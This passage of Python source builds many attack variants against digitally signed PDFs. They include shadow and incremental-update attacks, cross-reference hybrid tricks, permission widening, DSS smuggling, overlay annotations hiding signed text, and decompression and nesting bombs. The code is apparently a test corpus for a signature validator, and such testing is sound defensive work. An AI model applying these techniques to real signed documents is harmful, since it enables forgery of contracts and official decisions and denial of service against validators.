    return pdf + letter({CONTENT: stream(FALSE_TEXT)})


def bytes_before_the_head(pdf: bytes) -> bytes:
    return b"van ban khac\n" + pdf


def revision_skipped(pdf: bytes) -> bytes:
    """A later revision whose /Prev leads past the signed one, with copies of what the field needs."""
    number, before = signature_number(pdf), int(re.findall(rb"/Prev (\d+)", pdf)[-1])
    copies = {n: latest(pdf, n) for n in (LEADER, number, number + 1, CATALOG)}
    return appended(pdf, {CONTENT: stream(FALSE_TEXT), **copies}, previous=before)


def second_generation(pdf: bytes) -> bytes:
    """5 1 obj: readers that look at the number alone show it."""
    return appended(pdf, {CONTENT: stream(FALSE_TEXT)}, generation=1)


def fewer_objects_declared(pdf: bytes) -> bytes:
    """A later trailer says that there are no objects from the page's number on: readers that believe it miss them."""
    out = appended(pdf, {})
    return out.replace(b"/Size %d/Root" % size_of(pdf), b"/Size %d/Root" % PAGE)


def seal_skipped(pdf: bytes) -> bytes:
    """A later revision points back to before the last signature's, which no reader finds any more."""
    first = pdf.index(b"%%EOF", gaps(pdf)[0][1]) + 5
    return appended(pdf, {}, previous=startxref(pdf[:first]))


def end_of_an_older_revision_again(pdf: bytes) -> bytes:
    """Only the last lines of an older revision once more: readers begin with that one."""
    first = pdf.index(b"%%EOF", gaps(pdf)[0][1]) + 5
    return pdf + b"\nstartxref\n%d\n%%%%EOF\n" % startxref(pdf[:first])


def hybrid_elsewhere(pdf: bytes) -> bytes:
    """The old table names the signed page, the stream beside it a false one: two kinds of readers see two letters."""
    number, out = size_of(pdf), bytearray(pdf)
    false = len(out)
    out += b"%d 0 obj\n%b\nendobj\n" % (CONTENT, stream(FALSE_TEXT))
    again = len(out)
    out += b"%d 0 obj\n%b\nendobj\n" % (CONTENT, latest(pdf, CONTENT))
    table = len(out)
    places = {CONTENT: (1, false, 0), number: (1, table, 0)}
    out += xref_stream(number, places, b"/Size %d/Root 1 0 R" % (number + 1))
    start = len(out)
    out += b"xref\n%d 1\n%010d 00000 n \n" % (CONTENT, again)
    out += b"trailer\n<</Size %d/Root 1 0 R/Prev %d/XRefStm %d>>\n" % (number + 1, startxref(pdf), table)
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % start)


def hybrid_only_in_the_stream(pdf: bytes) -> bytes:
    """The old table says nothing about the page; the stream beside it exchanges it."""
    number, out = size_of(pdf), bytearray(pdf)
    false = len(out)
    out += b"%d 0 obj\n%b\nendobj\n" % (CONTENT, stream(FALSE_TEXT))
    table = len(out)
    places = {CONTENT: (1, false, 0), number: (1, table, 0)}
    out += xref_stream(number, places, b"/Size %d/Root 1 0 R" % (number + 1))
    start = len(out)
    out += b"xref\n0 0\ntrailer\n<</Size %d/Root 1 0 R/Prev %d/XRefStm %d>>\n" % (number + 1, startxref(pdf), table)
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % start)


def container_overwritten(pdf: bytes) -> bytes:
    """The object stream is exchanged, so the objects in it change without an entry of their own."""
    number, body = next(
        (int(n), body)
        for n, body in re.findall(rb"(?<!\d)(\d+) 0 obj\s(.*?)\s*endobj", pdf, re.DOTALL)
        if b"/Type/ObjStm" in body
    )
    return appended(pdf, {number: changed(body, b"/Helvetica", b"/Courier  ")})


def length_shortened(pdf: bytes) -> bytes:
    """The length of the page's content is an object of its own; a smaller one cuts the content where it says so."""
    return appended(pdf, {24: b"%d" % len(CONDITION_CUT)})


def length_wrong(pdf: bytes) -> bytes:
    """The same, but no `endstream` follows: some readers look for it, others cut the content."""
    return appended(pdf, {24: b"%d" % (len(CONDITION_CUT) - 3)})


def list_of_annotations_grown(pdf: bytes) -> bytes:
    """The page's annotations are listed in an object of their own: the page itself stays as it was."""
    number = size_of(pdf)
    note = b"<</Type/Annot/Subtype/FreeText/Rect[60 520 520 720]/P 3 0 R/Contents(x)/AP<</N %d 0 R>>>>" % (number + 1)
    listed = changed(latest(pdf, 24), b"[", b"[%d 0 R " % number)
    return appended(pdf, {24: listed, number: note, number + 1: drawing(COVER)})


CONDITION_CUT = b"BT /F1 14 Tf 80 700 Td (chi tra 1 ty dong cho ong A) Tj ET %"
CONDITION = CONDITION_CUT + b"endstream endobj\nBT /F1 14 Tf 80 680 Td (khi da nghiem thu cong trinh) Tj ET"
LENGTH_ELSEWHERE = {
    CONTENT: re.sub(rb"/Length \d+", b"/Length 24 0 R", stream(CONDITION)),
    24: b"%d" % len(CONDITION),
}
TWOFOLD = {PAGE: with_entry(LETTER[PAGE], b"/Metadata 5 0 R/PieceInfo<</X<</Private 5 0 R>>>>")}
LIST_ELSEWHERE = {
    PAGE: re.sub(rb"/Annots\[.*?\]", b"/Annots 24 0 R", LETTER[PAGE]),
    24: re.findall(rb"/Annots(\[.*?\])", LETTER[PAGE])[0],
}
NOTED = {
    PAGE: changed(LETTER[PAGE], b"/Annots[", b"/Annots[24 0 R "),
    24: b"<</Type/Annot/Subtype/FreeText/Rect[80 400 200 420]/F 4/P 3 0 R/Contents(y kien)/AP<</N 25 0 R>>>>",
    25: drawing(b"BT /Helv 9 Tf 2 5 Td (y kien) Tj ET", 120, 20),
}
note_redrawn = replacing((25, drawing(COVER, 120, 20)))
note_enlarged = editing(24, b"80 400 200 420", b"60 520 520 720")


# -- shadow: prepared before signing, switched afterwards --


SHADOW_IMAGE = {
    CONTENT: stream(FALSE_TEXT + b" q 595 0 0 842 0 0 cm /Im0 Do Q"),
    IMAGE: changed(LETTER[IMAGE], b"\x7f", b"\xff"),
}
SHADOW_FORM = {CONTENT: stream(FALSE_TEXT + b" /P Do"), NAMED_P: drawing(b"1 g 0 0 595 842 re f", 595, 842)}
SHADOW_SET = {
    SHADOW: changed(LETTER[CATALOG], b"/Pages 2 0 R", b"/Pages 31 0 R"),
    31: b"<</Type/Pages/Kids[32 0 R]/Count 1>>",
    32: changed(changed(LETTER[PAGE], b"/Parent 2 0 R", b"/Parent 31 0 R"), b"/Contents 5 0 R", b"/Contents 33 0 R"),
    33: stream(FALSE_TEXT),
}
SHADOW_TWIN = b"5 0 obj\n%b\nendobj\n" % stream(FALSE_TEXT)
SHADOW_FIELD = {
    NUMBER: field(b"so_ky_hieu", b"Tx", b"60 600 400 720", b"/V(15/QD-UBND)/AP<</N 30 0 R>>/Ff 1"),
    SHADOW: drawing(b"BT /Helv 12 Tf 2 5 Td (15/QD-UBND) Tj ET", 340, 120),
}
SHADOW_OFF_PAGE = {
    FORM: changed(LETTER[FORM], b"12 0 R]", b"12 0 R 30 0 R]"),
    SHADOW: field(b"ghi_chu", b"Tx", b"60 540 520 740", b"/V(Chi tra 999 ty dong)/AP<</N 31 0 R>>"),
    31: drawing(COVER),
}


# a box to tick, a button with a picture, a choice, a field whose value stands above its widget, a widget that no form
# lists, and two notes of which one lies over the other
BOXES = {
    FORM: changed(LETTER[FORM], b"12 0 R]", b"12 0 R 30 0 R 33 0 R 34 0 R 35 0 R]"),
    PAGE: changed(LETTER[PAGE], b"/Annots[", b"/Annots[40 0 R 41 0 R 30 0 R 33 0 R 34 0 R 36 0 R 37 0 R "),
    30: field(b"dong_y", b"Btn", b"60 460 80 480", b"/V/Off/AS/Off/AP<</N<</Off 32 0 R/Yes 31 0 R>>>>"),
    31: drawing(b"BT /Helv 12 Tf 2 5 Td (x) Tj ET", 20, 20),
    32: drawing(b"", 20, 20),
    33: field(b"anh", b"Btn", b"60 430 200 450", b"/Ff 65536/AP<</N 38 0 R>>"),
    34: field(b"loai", b"Ch", b"60 400 200 420", b"/Ff 131072/Opt[[(1)(Thuong)][(2)(Hoa toc)]]"),
    35: b"<</FT/Tx/T(ghi_chu)/DA(/Helv 12 Tf 0 g)/Kids[36 0 R]>>",
    36: b"<</Type/Annot/Subtype/Widget/Parent 35 0 R/Rect[60 370 200 390]/F 4/P 3 0 R>>",
    37: field(b"so_ky_hieu", b"Tx", b"60 340 200 360"),
    38: drawing(b"BT /Helv 12 Tf 2 5 Td (anh) Tj ET", 140, 20),
    39: drawing(b"1 g 0 0 200 20 re f 0 g BT /Helv 12 Tf 2 5 Td (999 ty) Tj ET", 200, 20),
    40: b"<</Type/Annot/Subtype/FreeText/Rect[300 460 500 480]/F 4/P 3 0 R/Contents(9)/AP<</N 39 0 R>>>>",
    41: b"<</Type/Annot/Subtype/FreeText/Rect[300 460 500 480]/F 4/P 3 0 R/Contents(1)/AP<</N 42 0 R>>>>",
    42: drawing(b"1 g 0 0 200 20 re f 0 g BT /Helv 12 Tf 2 5 Td (1 ty) Tj ET", 200, 20),
}


def _looking(number: int, entries: bytes, look: bytes, more: Mapping[int, bytes] | None = None) -> Attack:
    """A field gets entries in which NEW names its new look; OTHER in the look names the first of `more`."""

    def look_so(pdf: bytes) -> bytes:
        place = size_of(pdf)
        body = with_entry(latest(pdf, number), entries.replace(b"NEW", b"%d 0 R" % place))
        drawn = look.replace(b"OTHER", b"%d 0 R" % (place + 1))
        return appended(pdf, {number: body, place: drawn, **{place + 1 + n: one for n, one in (more or {}).items()}})

    return look_so


def _drawn_with(content: bytes, resources: bytes) -> bytes:
    return stream(content, b"/Type/XObject/Subtype/Form/BBox[0 0 140 20]/Resources<<%b>>" % resources)


def _filled_with(content: bytes, resources: bytes = b"/Font<</Helv 15 0 R>>", **more: bytes) -> Attack:
    """The number is filled with 15/QD-UBND and drawn so."""
    others = {0: more["other"]} if "other" in more else None
    return _looking(NUMBER, b"/V(15/QD-UBND)/AP<</N NEW>>/Ff 1", _drawn_with(content, resources), others)


_RIGHT = b"BT /Helv 12 Tf 2 5 Td (15/QD-UBND) Tj ET"
_OTHER = b"/Font<</Helv OTHER>>"
filled_letter_by_letter = _filled_with(
    b"BT /Helv 12 Tf 2 5 Td " + b" ".join(b"(%c) Tj" % c for c in b"15/QD-UBND") + b" % (9) Tj\n ET"
)
filled_where_the_rest_is_printed = _filled_with(b"BT /Helv 12 Tf 2 5 Td (15) Tj ET")
filled_with_named_letters = _filled_with(
    _RIGHT, _OTHER, other=b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding<</Differences[49/one 53/five]>>>>"
)
filled_with_letters_named_otherwise = _filled_with(
    _RIGHT, _OTHER, other=b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding<</Differences[49/nine 53/nine]>>>>"
)
filled_with_letters_of_its_own = _filled_with(
    _RIGHT, _OTHER, other=LETTER[GLYPHS].replace(b"97/a", b"49/a/b/c/d/a").replace(b"Char 97", b"Char 49")
)
filled_in_symbols = _filled_with(_RIGHT, _OTHER, other=b"<</Type/Font/Subtype/Type1/BaseFont/Symbol>>")
filled_without_a_font = _filled_with(_RIGHT, _OTHER, other=b"null")
filled_with_a_font_in_a_state = _filled_with(
    b"BT /Helv 12 Tf /G gs 2 5 Td (15/QD-UBND) Tj ET", b"/Font<</Helv 15 0 R>>/ExtGState<</G<</Font[16 0 R 12]>>>>"
)
filled_within_brackets = _filled_with(b"BT /Helv 12 Tf 2 5 Td (9(15/QD-UBND)9) Tj ET")
filled_in_part = _filled_with(b"BT /Helv 12 Tf 2 5 Td (5/QD-UBND) Tj ET")
filled_in_disorder = _filled_with(b"BT /Helv 12 Tf 2 5 Td (5) Tj (1) Tj (/QD-UBND) Tj ET")
filled_with_curves = _filled_with(_RIGHT + b" 5 5 m 5 10 10 10 10 5 c S")
filled_with_a_pattern = _filled_with(
    _RIGHT + b" /Pattern cs /P1 scn 0 0 140 20 re f", b"/Font<</Helv 15 0 R>>/Pattern<</P1 OTHER>>",
    other=stream(b"9 9 m S", b"/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 9 9]/XStep 9/YStep 9/Resources<<>>"),
)  # fmt: skip
filled_with_a_picture_before_a_comment = _filled_with(
    _RIGHT + b" /Im0 Do%\n", b"/Font<</Helv 15 0 R>>/XObject<</Im0 18 0 R>>"
)
filled_with_states = _looking(
    NUMBER, b"/V(15/QD-UBND)/AP<</N<</A NEW>>>>/AS/A/Ff 1", drawing(b"BT /Helv 12 Tf 2 5 Td (99) Tj ET", 140, 20)
)
box_ticked = editing(30, b"/V/Off/AS/Off", b"/V/Yes/AS/Yes")
choice_made = _looking(34, b"/V(2)/AP<</N NEW>>", drawing(b"BT /Helv 12 Tf 2 5 Td (Hoa toc) Tj ET", 140, 20))
box_redrawn = replacing((31, drawing(COVER, 20, 20)))
choice_shown_otherwise = _looking(34, b"/V(1)/AP<</N NEW>>", drawing(b"BT /Helv 12 Tf 2 5 Td (Hoa toc) Tj ET", 140, 20))
unlisted_widget_redrawn = _looking(37, b"/AP<</N NEW>>", drawing(b"BT /Helv 12 Tf 2 5 Td (99/QD) Tj ET", 140, 20))
field_leads_elsewhere = entering(NUMBER, b"/A<</S/URI/URI(https://example.net/)>>")
field_framed = entering(NUMBER, b"/Border[0 0 40]/BS<</W 40>>")
field_in_a_layer = entering(NUMBER, b"/OC 19 0 R")


def field_above_its_widget_filled(pdf: bytes) -> bytes:
    """The value is written into the field, the look into the widget below it."""
    place = size_of(pdf)
    widget = with_entry(latest(pdf, 36), b"/AP<</N %d 0 R>>" % place)
    above = with_entry(latest(pdf, 35), b"/V(15/QD-UBND)")
    return appended(pdf, {35: above, 36: widget, place: drawing(_RIGHT, 140, 20)})


def button_repictured(pdf: bytes) -> bytes:
    place = size_of(pdf)
    return appended(pdf, {33: changed(latest(pdf, 33), b"38 0 R", b"%d 0 R" % place), place: drawing(COVER, 140, 20)})


def notes_reordered(pdf: bytes) -> bytes:
    """The note that lay under another lies over it."""
    return editing(PAGE, b"[40 0 R 41 0 R ", b"[41 0 R 40 0 R ")(pdf)


def field_taken_away(pdf: bytes) -> bytes:
    """A filled text field leaves form and page."""
    page = changed(latest(pdf, PAGE), b"[9 0 R ", b"[")
    return appended(pdf, {FORM: changed(latest(pdf, FORM), b"[9 0 R ", b"["), PAGE: page})


def widget_taken_away(pdf: bytes) -> bytes:
    """A text field leaves the page and stays in the form."""
    return editing(PAGE, b"[9 0 R ", b"[")(pdf)


def note_opened(pdf: bytes) -> bytes:
    """A note's window, open, over the text."""
    number = size_of(pdf)
    note = b"<</Type/Annot/Subtype/Popup/Rect[60 520 520 720]/Open true/Parent 13 0 R/P 3 0 R>>"
    return appended(pdf, {PAGE: changed(latest(pdf, PAGE), b"/Annots[", b"/Annots[%d 0 R " % number), number: note})


def container_holds_a_number_twice(pdf: bytes) -> bytes:
    """The table says "the second object"; some readers look for the number instead and find the first."""
    container = size_of(pdf)
    old, new = latest(pdf, PAGE), changed(latest(pdf, PAGE), b"/Contents 5 0 R", b"/Contents 92 0 R")
    heads = b"%d 0 %d %d " % (PAGE, PAGE, len(old) + 1)
    holder = stream(heads + old + b"\n" + new, b"/Type/ObjStm/N 2/First %d" % len(heads))
    out, places = pdf, dict[int, tuple[int, int, int]]()
    for number, body in ((container, holder), (92, stream(FALSE_TEXT))):
        places[number] = (1, len(out), 0)
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    section = max(container, 92) + 1
    places |= {PAGE: (2, container, 1), section: (1, len(out), 0)}
    words = b"/Size %d/Root %d 0 R/Prev %d" % (section + 1, root_of(pdf), startxref(pdf))
    return out + xref_stream(section, places, words) + b"startxref\n%d\n%%%%EOF\n" % len(out)


def image_freed(pdf: bytes) -> bytes:
    return appended(pdf, {}, freed=(IMAGE,))


def image_pointed_at_nothing(pdf: bytes) -> bytes:
    """The entry of the image leads to a place where no object begins."""
    out = pdf
    start = len(out)
    out += b"xref\n%d 1\n%010d 00000 n \n" % (IMAGE, 3)
    out += b"trailer\n<</Size %d/Root 1 0 R/Prev %d>>\n" % (size_of(pdf), startxref(pdf))
    return out + b"startxref\n%d\n%%%%EOF\n" % start


def form_emptied(pdf: bytes) -> bytes:
    return appended(pdf, {NAMED_P: drawing(b"", 595, 842)})


def catalog_switched(pdf: bytes) -> bytes:
    return appended(pdf, {SHADOW: with_entry(latest(pdf, CATALOG), b"/Shadow true")}, root=SHADOW)


def kids_switched(pdf: bytes) -> bytes:
    return editing(PAGES, b"[3 0 R", b"[32 0 R")(pdf)


def entry_switched(pdf: bytes) -> bytes:
    """One cross-reference entry: the page's content is now where its hidden twin lies. Nothing else is written."""
    start, place = len(pdf), pdf.index(b"\n5 0 obj") + 1
    out = pdf + b"xref\n%d 1\n%010d 00000 n \n" % (CONTENT, place)
    out += b"trailer\n<</Size %d/Root 1 0 R/Prev %d>>\n" % (size_of(pdf), startxref(pdf))
    return out + b"startxref\n%d\n%%%%EOF\n" % start


shown_value_overwritten = replacing((SHADOW, drawing(b"BT /Helv 12 Tf 2 5 Td (999/QD-GIA) Tj ET", 340, 120)))


def shown_value_exchanged(pdf: bytes) -> bytes:
    number = size_of(pdf)
    widget = changed(latest(pdf, NUMBER), b"/N 30 0 R", b"/N %d 0 R" % number)
    return appended(pdf, {NUMBER: widget, number: drawing(b"BT /Helv 12 Tf 2 5 Td (999/QD-GIA) Tj ET", 340, 120)})


def hidden_field_shown(pdf: bytes) -> bytes:
    """A field that the form had, and no page showed, is put over the text."""
    return editing(PAGE, b"/Annots[", b"/Annots[30 0 R ")(pdf)


# -- permitted changes misused --


def annotation_over_text(subtype: bytes) -> Attack:
    """Evil annotation: an opaque picture over the text."""

    def annotate(pdf: bytes) -> bytes:
        number = size_of(pdf)
        note = b"<</Type/Annot/Subtype/%b/Rect[60 520 520 720]/F 4/P 3 0 R/Contents(x)/DA(/Helv 12 Tf 0 g)" % subtype
        note += b"/AP<</N %d 0 R>>>>" % (number + 1)
        page = changed(latest(pdf, PAGE), b"/Annots[", b"/Annots[%d 0 R " % number)
        return appended(pdf, {PAGE: page, number: note, number + 1: drawing(COVER)})

    return annotate


def field_over_text(pdf: bytes) -> bytes:
    """A new, empty text field whose picture lies over the text."""
    number = size_of(pdf)
    widget = field(b"moi", b"Tx", b"60 520 520 720", b"/V(Chi tra 999 ty dong)/AP<</N %d 0 R>>" % (number + 1))
    return appended(pdf, {number: widget, number + 1: drawing(COVER), **_around_new_field(pdf, number)})


def widget_of_a_field_over_text(pdf: bytes) -> bytes:
    """A second widget of a field that was there, put over the text of another page."""
    number = size_of(pdf)
    look = b"/AP<</N %d 0 R>>" % (number + 1)
    widget = b"<</Type/Annot/Subtype/Widget/Parent 9 0 R/Rect[60 520 520 720]/F 4/P 4 0 R%b>>" % look
    page = with_entry(latest(pdf, SECOND_PAGE), b"/Annots[%d 0 R]" % number)
    return appended(pdf, {SECOND_PAGE: page, number: widget, number + 1: drawing(COVER)})


def filled_otherwise_than_shown(pdf: bytes) -> bytes:
    return filled(pdf, value=b"123/QD", shown=b"999/QD-GIA")


def shown_without_a_value(pdf: bytes) -> bytes:
    """An empty field stays empty and gets a picture."""
    place = size_of(pdf)
    body = with_entry(latest(pdf, NUMBER), b"/AP<</N %d 0 R>>" % place)
    return appended(pdf, {NUMBER: body, place: drawing(b"BT /Helv 12 Tf 2 5 Td (999/QD-GIA) Tj ET", 140, 20)})


def filled_showing_a_picture(pdf: bytes) -> bytes:
    """The value is shown as an image of something else."""
    place = size_of(pdf)
    body = with_entry(latest(pdf, NUMBER), b"/V(15/QD-UBND)/AP<</N %d 0 R>>/Ff 1" % place)
    entries = b"/Type/XObject/Subtype/Form/BBox[0 0 140 20]/Resources<</XObject<</Im0 18 0 R>>>>"
    return appended(pdf, {NUMBER: body, place: stream(b"140 0 0 20 0 0 cm /Im0 Do", entries)})


def field_only_printed(pdf: bytes) -> bytes:
    """An empty signature field with a picture over the text that no screen shows and every printer does."""
    number = size_of(pdf)
    widget = changed(field(b"moi", b"Sig", b"60 520 520 720"), b"/F 4", b"/F 36/AP<</N %d 0 R>>" % (number + 1))
    return appended(pdf, {number: widget, number + 1: drawing(COVER), **_around_new_field(pdf, number)})


seal_pictured = entering(SEAL, b"/AP<</N NEW>>", drawing(b"1 0 0 RG 5 5 100 70 re S"))
"""The empty field of the seal shows a seal that nobody set."""


def hidden_field_shown_later(pdf: bytes) -> bytes:
    """A hidden signature field with a picture over the text is added, and a revision later it is hidden no more."""
    number = size_of(pdf)
    widget = changed(field(b"moi", b"Sig", b"60 520 520 720"), b"/F 4", b"/F 2/AP<</N %d 0 R>>" % (number + 1))
    hidden = appended(pdf, {number: widget, number + 1: drawing(COVER), **_around_new_field(pdf, number)})
    return editing(number, b"/F 2", b"/F 4")(hidden)


def empty_field_grown_later(pdf: bytes) -> bytes:
    """A signature field without an area is added, and a revision later it has one."""
    number = size_of(pdf)
    widget = changed(field(b"moi", b"Sig", b"60 520 60 520"), b"/F 4", b"/F 4/AP<</N %d 0 R>>" % (number + 1))
    small = appended(pdf, {number: widget, number + 1: drawing(COVER), **_around_new_field(pdf, number)})
    return editing(number, b"60 520 60 520", b"60 520 520 720")(small)


def filled_and_enlarged(pdf: bytes) -> bytes:
    return editing(NUMBER, b"60 730 200 750", b"60 500 520 750")(filled(pdf))


def filled_in_one_step_enlarged(pdf: bytes) -> bytes:
    place = size_of(pdf)
    body = changed(with_entry(latest(pdf, NUMBER), b"/V(15)/AP<</N %d 0 R>>" % place), b"200 750", b"520 790")
    return appended(pdf, {NUMBER: body, place: drawing(b"BT /Helv 12 Tf 2 5 Td (15) Tj ET", 140, 20)})


def filled_again(pdf: bytes) -> bytes:
    """A number that was there already is exchanged, value and picture."""
    return filled(pdf, value=b"16/QD-UBND")


def filled_again_in_place(pdf: bytes) -> bytes:
    """Only the picture of the number is exchanged, in its own object."""
    number = int(re.findall(rb"/AP<</N (\d+) 0 R>>", latest(pdf, NUMBER))[-1])
    return appended(pdf, {number: drawing(b"BT /Helv 12 Tf 2 5 Td (16/QD-UBND) Tj ET", 140, 20)})


def number_hidden(pdf: bytes) -> bytes:
    return editing(NUMBER, b"/F 4", b"/F 2")(pdf)


def form_draws_anew(pdf: bytes) -> bytes:
    """Readers shall draw all fields again, in white where a field does not say how."""
    form = changed(latest(pdf, FORM), b"/DA(/Helv 12 Tf 0 g)", b"/DA(/Helv 12 Tf 1 g)/NeedAppearances true")
    return appended(pdf, {FORM: form})


def proof_removed(pdf: bytes) -> bytes:
    return appended(pdf, {CATALOG: without(latest(pdf, CATALOG), rb"/DSS \d+ 0 R")})


def own_number_filled_again(pdf: bytes) -> bytes:
    """The same with a file of our own road."""
    number = number_of(pdf, b"so_ky_hieu")
    body = latest(pdf, number)
    fresh = re.sub(rb"/V\s*(\((?:\\.|[^\\()])*\)|<[0-9A-Fa-f]*>)", b"/V (16/QD-UBND)", body)
    assert fresh != body
    return appended(pdf, {number: fresh})


def own_font_overwritten(pdf: bytes) -> bytes:
    """The font with which our own road drew the number is exchanged."""
    number = number_of(pdf, b"so_ky_hieu")
    look = int(re.findall(rb"/N (\d+) 0 R", latest(pdf, number))[-1])
    font = int(re.findall(rb"/Chu (\d+) 0 R", latest(pdf, look))[-1])
    return appended(pdf, {font: b"<</Type/Font/Subtype/Type1/BaseFont/Symbol>>"})


def proof_smuggles_a_page(pdf: bytes) -> bytes:
    """DSS smuggling: the page's content is overridden and listed as if it were a certificate."""
    number = size_of(pdf)
    catalog = with_entry(latest(pdf, CATALOG), b"/DSS %d 0 R" % number)
    dss = b"<</Type/DSS/Certs[5 0 R]>>"
    return appended(pdf, {CATALOG: catalog, number: dss, CONTENT: stream(FALSE_TEXT)})


def permission_removed(pdf: bytes) -> bytes:
    return appended(pdf, {CATALOG: without(latest(pdf, CATALOG), rb"/Perms<<[^>]*>>")})


def permission_widened(pdf: bytes) -> bytes:
    number = signature_number(pdf)
    return appended(pdf, {number: re.sub(rb"/V/1.2/P \d", b"/V/1.2/P 3", latest(pdf, number))})


def permission_of_another(pdf: bytes) -> bytes:
    """The catalog names another signature dictionary, which permits more, as the certification."""
    number = size_of(pdf)
    body = re.sub(rb"/V/1.2/P \d", b"/V/1.2/P 3", plain_signature(pdf))
    catalog = re.sub(rb"/Perms<</DocMDP \d+ 0 R>>", b"/Perms<</DocMDP %d 0 R>>" % number, latest(pdf, CATALOG))
    return appended(pdf, {number: body, CATALOG: catalog})


# -- structure --


def cut(share: float) -> Attack:
    return lambda pdf: pdf[: int(len(pdf) * share)]


def table_leads_to_itself(pdf: bytes) -> bytes:
    font = latest(pdf, FONT)
    return appended(pdf, {FONT: font}, previous=len(pdf) + len(b"15 0 obj\n%b\nendobj\n" % font))


def many_revisions(pdf: bytes) -> bytes:
    for _ in range(150):
        pdf = appended(pdf, {FONT: latest(pdf, FONT)})
    return pdf


def many_fields(pdf: bytes) -> bytes:
    """20 000 signature fields without a signature."""
    first = size_of(pdf)
    fields = {first + n: b"<</FT/Sig/T(f%d)>>" % n for n in range(20_000)}
    listed = b" ".join(b"%d 0 R" % n for n in fields)
    return appended(pdf, fields | {FORM: changed(latest(pdf, FORM), b"/Fields[", b"/Fields[%b " % listed)})


def many_signatures(pdf: bytes) -> bytes:
    """150 fields that hold copies of the signature."""
    first, body = size_of(pdf), re.sub(rb"0{1000,}", b"", plain_signature(pdf))
    fields = {first + 2 * n: b"<</FT/Sig/T(f%d)/V %d 0 R>>" % (n, first + 2 * n + 1) for n in range(150)}
    listed = b" ".join(b"%d 0 R" % n for n in fields)
    signatures = {n + 1: body for n in fields}
    form = changed(latest(pdf, FORM), b"/Fields[", b"/Fields[%b " % listed)
    return appended(pdf, fields | signatures | {FORM: form})


def deep_nesting(pdf: bytes) -> bytes:
    return entering(CATALOG, b"/Deep " + b"[" * 20_000 + b"]" * 20_000)(pdf)


def deep_dictionaries(pdf: bytes) -> bytes:
    return entering(CATALOG, b"/Deep " + b"<</D" * 20_000 + b" 1" + b">>" * 20_000)(pdf)


def big_contents(pdf: bytes) -> bytes:
    """60 MB where a signature should be."""
    start, end = gaps(pdf)[-1]
    return ranged(pdf[: start + 1] + b"0" * (60 << 20) + pdf[end - 1 :])


def container_bomb(pdf: bytes) -> bytes:
    """An object stream that unfolds to 100 MB holds the form."""
    number, heads = size_of(pdf), b"%d 0 " % FORM
    data = zlib.compress(zlib.compress(heads + LETTER[FORM] + b" " * (100 << 20), 1), 9)
    entries = b"/Type/ObjStm/N 1/First %d/Filter[/FlateDecode/FlateDecode]" % len(heads)
    out = pdf + b"%d 0 obj\n%b\nendobj\n" % (number, stream(data, entries))
    places = {number: (1, len(pdf), 0), number + 1: (1, len(out), 0), FORM: (2, number, 0)}
    words = b"/Size %d/Root 1 0 R/Prev %d" % (number + 2, startxref(pdf))
    return out + xref_stream(number + 1, places, words) + b"startxref\n%d\n%%%%EOF\n" % len(out)


def metadata_bomb(pdf: bytes) -> bytes:
    """Metadata that unfold, twice, to 100 MB."""
    data = zlib.compress(zlib.compress(b" " * (100 << 20), 1), 9)
    return appended(pdf, {METADATA: stream(data, b"/Type/Metadata/Subtype/XML/Filter[/FlateDecode/FlateDecode]")})


def many_objects(pdf: bytes) -> bytes:
    """300 000 objects that the catalog names."""
    first, start = size_of(pdf), len(pdf)
    lines, entries, place = [], [], start
    for n in range(first, first + 300_000):
        line = b"%d 0 obj 1 endobj\n" % n
        entries.append(b"%010d 00000 n \n" % place)
        lines.append(line)
        place += len(line)
    catalog = b"1 0 obj\n%b\nendobj\n" % with_entry(
        latest(pdf, CATALOG), b"/Many[%b]" % b" ".join(b"%d 0 R" % n for n in range(first, first + 300_000))
    )
    out = pdf + b"".join(lines) + catalog
    table = b"xref\n1 1\n%010d 00000 n \n%d 300000\n%b" % (place, first, b"".join(entries))
    words = b"trailer\n<</Size %d/Root 1 0 R/Prev %d>>\n" % (first + 300_000, startxref(pdf))
    return out + table + words + b"startxref\n%d\n%%%%EOF\n" % len(out)
